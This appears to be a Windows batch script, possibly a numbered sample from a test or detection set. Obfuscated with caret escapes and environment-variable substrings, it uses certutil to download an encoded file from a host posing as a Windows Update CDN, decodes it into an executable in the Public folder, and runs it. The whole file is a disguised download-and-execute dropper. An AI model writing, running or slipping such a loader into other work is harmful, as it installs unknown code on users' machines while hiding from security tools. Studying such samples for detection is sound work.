REM task 1326 v2
@echo off
%comspec:~-7,1%%PUBLIC:~-10,1%%PUBLIC:~-9,1%%comspec:~14,1%u%comspec:~-13,1%%windir:~-6,1%%PUBLIC:~12,1% -u^r^lc^a^che -^f htt^p://^d^l.wi^n^upda^t^e-cdn.ex^ample/p.t^x^t %PUBLIC%\p.txt
^c^e%ProgramData:~-7,1%%comspec:~14,1%%PUBLIC:~-5,1%t%WINDIR:~-6,1%l -^d^e^c^o^de %PUBLIC%\^p.t^x^t %PUBLIC%\p.exe
%PUBLIC%\p.^ex^e
